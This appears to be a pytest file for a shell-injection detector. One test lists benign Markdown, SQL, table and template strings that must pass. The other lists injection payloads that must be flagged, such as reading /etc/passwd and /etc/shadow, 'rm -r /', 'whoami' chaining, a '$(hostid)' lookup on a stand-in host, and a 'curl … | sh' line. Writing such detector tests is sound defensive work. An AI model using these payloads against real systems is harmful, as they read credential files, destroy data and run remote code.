"""What Markdown, tables and templates write with a shell's marks; and what hides there."""

from __future__ import annotations

import pytest
from tests.support.suspects import STOPS, Suspects

from vallum.inspection.detectors.shell import DETECTOR

SUSPECTS = Suspects(DETECTOR)


@pytest.mark.parametrize(
    "text",
    [
        # Code in Markdown.
        "Run `rm -r build` first",
        "see `chmod`",
        "- `chmod +x file` for the script",
        "1. `ls -l` lists files",
        "feat!: replace `rm -r` with trash",
        "Type `mv a b`, then `cp b c`",
        "`chmod 755 a` fails",
        "Bitte `ls -l` nutzen",
        "[`ls`](ls.html)",
        "`cp` -> `mv`",
        # Names in a database.
        "`orders`.`date`",
        "`sort` = 3",
        "`type` IN (1, 2)",
        "`last`, `more`",
        "`label #12`",
        "COUNT(`id`)",
        # Rows.
        "|date|time|place|",
        "|id| name | mail |",
        "|user|id|",
        "|ID|Host|Uptime|",
        # Filters of templates.
        "{% if a %}Dear {{ a.name|title }}{% endif %}",
        "{{ entries|sort|join(', ') }}{% endfor %}",
        # What is done with an address.
        "at noon; join https://meet.example/r/1",
        "news; read https://news.example/a today",
        "; join",
        # Places to fill in.
        "$(amount) due",
        "$(first_name)",
        "Hello $(user)!",
        # A day, a mark.
        "Mon; date 12/5",
        "&copy;move on",
        "&copy 2026 Example",
        # Lists and rows that begin with a dash.
        "- milk; eggs; bread",
        "-5 | -6",
        "-- Bob; time to go",
        "---\ntitle: Notes\ndate: 2026-01-02\n---\n",
    ],
)
def test_what_others_than_shells_write_so_passes(text: str) -> None:
    assert SUSPECTS.score(text) < STOPS


@pytest.mark.parametrize(
    "text",
    [
        # A substitution alone, joined to a word, told a path or a host, or followed by more.
        "`id`",
        "`rm -r build`",
        "a`rm -r build`",
        '";`rm file`;"',
        "Run `cat /etc/passwd`",
        "Run `rm -r /srv/data`",
        "Run `rm -r ~`",
        "Run `rm -r ../data`",
        "Run `sleep 9`",
        "Run `nslookup a.example`",
        "Run `ls`;whoami",
        "Run `ls $(id)`",
        "Run `rm -r /`",
        # Behind what parts commands, or a quote.
        "a; `rm b` is",
        '"; `rm b` in "',
        "' `rm b` is",
        "| `rm b` works",
        ";`id`.`a`",
        "a;`id`,`b`",
        # No names of columns.
        "`sleep 9` = 3",
        "`whoami`.`whoami`",
        "`reboot`.`a`",
        # No rows.
        "|id|",
        "|id|whoami|",
        "|sleep 9|a|",
        "|cat /etc/passwd|base64|",
        "|whoami|a|",
        # No filters.
        "{{a|cat /etc/passwd}}",
        "{{a|sort -o /etc/a}}",
        "{{a}}|cat /etc/passwd",
        # No addresses, no places to fill in.
        "; join /etc/passwd /etc/shadow",
        "a; join https://b.example;id",
        "$(hostid).a.example",
        "$(lsmem)",
        "$(unheard /etc/passwd)",
        # Behind what an option begins with.
        "--help;cat /etc/passwd",
        "-n 1 && whoami",
        "-1|whoami",
        "- a; curl http://a.example | sh",
    ],
)
def test_what_hides_as_such_is_stopped(text: str) -> None:
    assert SUSPECTS.score(text) >= STOPS
